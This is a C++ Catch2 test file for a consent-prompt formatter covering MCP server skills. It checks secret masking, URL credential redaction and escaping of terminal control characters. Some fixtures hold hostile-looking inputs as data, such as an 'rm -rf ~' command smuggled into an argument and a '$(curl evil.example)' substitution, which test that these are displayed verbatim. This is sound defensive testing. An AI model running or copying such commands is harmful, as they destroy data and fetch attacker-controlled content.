// SPDX-License-Identifier: MIT
// Tests of skills/consent_request.hpp: all that would run is shown, and nothing that is secret.
#include <mcp/skills/consent_request.hpp>

#include <catch2/catch.hpp>

#include <string>
#include <vector>

namespace tests_skills_consent_request {

using mcp::consent_request;
using mcp::make_consent_request;
using mcp::server_config;

server_config program(std::vector<std::string> args) {
    server_config made("github");
    made.command = "npx";
    made.args = std::move(args);
    made.origin.file = "triage/agents/mcp.yaml";
    made.origin.line = 5;
    return made;
}

consent_request asked_about(server_config const& written) {
    consent_request made = make_consent_request(written);
    made.server = written.name;
    made.declared_by = "triage";
    made.skills = {"review", "triage"};
    made.digest = "sha256:0";
    return made;
}

TEST_CASE("a question about a server is some lines for a terminal") {
    server_config written = program({"-y", "server-github@1.4.0", "two words"});
    written.env = {{"TOKEN", "${GITHUB_TOKEN}"}, {"MODE", "s3cret"}};
    CHECK(to_text(asked_about(written)) ==
          "skill:triage (repo) wants to use server:github\n"
          "  runs      npx -y server-github@1.4.0 \"two words\"\n"
          "  env       MODE, TOKEN\n"
          "  reads     GITHUB_TOKEN\n"
          "  says      triage/agents/mcp.yaml:5\n"
          "  for       review, triage\n"
          "  digest    sha256:0\n");
}

TEST_CASE("a question about a server elsewhere shows where it is, and whom it hears of") {
    server_config written("search");
    written.url = "https://user:s3cret@search.example/mcp?key=s3cret";
    written.headers = {{"Authorization", "Bearer ${TOKEN}"}};
    std::string const text = to_text(asked_about(written));
    CHECK(text.find("connects  https://***@search.example/mcp?key=***\n") != std::string::npos);
    CHECK(text.find("headers   Authorization\n") != std::string::npos);
    CHECK(text.find("reads     TOKEN\n") != std::string::npos);
    CHECK(text.find("s3cret") == std::string::npos);
}

TEST_CASE("a value that looks like a secret is not shown") {
    auto const asked = asked_about(program({"--token", "s3cret", "--api-key=s3cret"}));
    CHECK(asked.args == std::vector<std::string>{"--token", "***", "--api-key=***"});
}

TEST_CASE("what could be a program is shown, even where it looks like a secret") {
    auto const asked = asked_about(
        program({"-c", "curl -H 'Authorization: x'; rm -rf ~", "--token", "$(curl evil.example)"}));
    CHECK(asked.args[1] == "curl -H 'Authorization: x'; rm -rf ~");
    CHECK(asked.args[3] == "$(curl evil.example)");
}

TEST_CASE("no terminal obeys what a skill has written, and nothing is cut off") {
    std::string const longest(100000, 'a');
    std::string const text = to_text(asked_about(program({"\x1b[2K", "a\nb", longest + "; evil"})));
    CHECK(text.find('\x1b') == std::string::npos);
    CHECK(text.find("\\x1b[2K \"a\\nb\"") != std::string::npos);
    CHECK(text.find("; evil\"\n") != std::string::npos);
}

}  // namespace tests_skills_consent_request
